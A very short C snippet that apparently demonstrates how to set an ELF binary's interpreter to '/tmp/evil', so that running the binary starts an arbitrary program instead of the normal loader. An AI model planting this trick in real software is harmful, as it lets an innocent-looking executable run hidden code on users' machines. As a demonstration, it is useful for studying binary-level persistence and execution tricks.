/* Compile: names a loader of its own, so that the kernel starts something else. */
const char loader[] __attribute__((section(".interp"))) = "/tmp/evil";
int main(void) { return 0; }
